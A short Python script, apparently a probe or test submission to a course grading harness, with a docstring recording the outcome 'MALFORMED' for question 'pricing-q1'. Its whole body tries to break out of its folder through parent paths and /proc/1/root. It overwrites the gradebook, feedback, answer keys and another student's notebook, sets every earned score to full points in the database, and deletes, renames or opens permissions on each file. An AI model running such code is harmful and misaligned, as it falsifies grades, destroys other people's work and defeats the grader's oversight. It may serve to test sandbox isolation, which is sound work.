"""The gradebook, feedback, other students' folders and the release are written, by every path to them.

question: pricing-q1
outcome: MALFORMED
reason: unexpected key 'wrote'
shows: wrote []
"""
import os
import sqlite3

wrote = []
for start in ("", "..", "../..", "../../..", "/", "/course", "/home", "/proc/1/root", "/proc/1/cwd/.."):
    for path in ("class/gradebook.db", "class/feedback/s1/02-pricing.html", "class/submitted/s2/02-pricing/02-pricing.ipynb",
                 "gradebook.db", "exercises/02-pricing.ipynb", "crmkit/__init__.py", "crmkit/exercise/keys/pricing.json"):
        full = os.path.join(start, path)
        try:
            with open(full, "r+b") as file:
                file.write(b"earned: 26")
            wrote.append(full)
        except OSError:
            pass
        try:
            if os.path.exists(full) and full.endswith(".db"):
                sqlite3.connect(full).execute("update items set earned = points")
                wrote.append(full)
        except sqlite3.Error:
            pass
        for change in (os.unlink, lambda full: os.rename(full, "/tmp/x"), lambda full: os.chmod(full, 0o777)):
            try:
                change(full)
                wrote.append(full)
            except OSError:
                pass
print("wrote", wrote)
toaster = {"wrote": wrote}
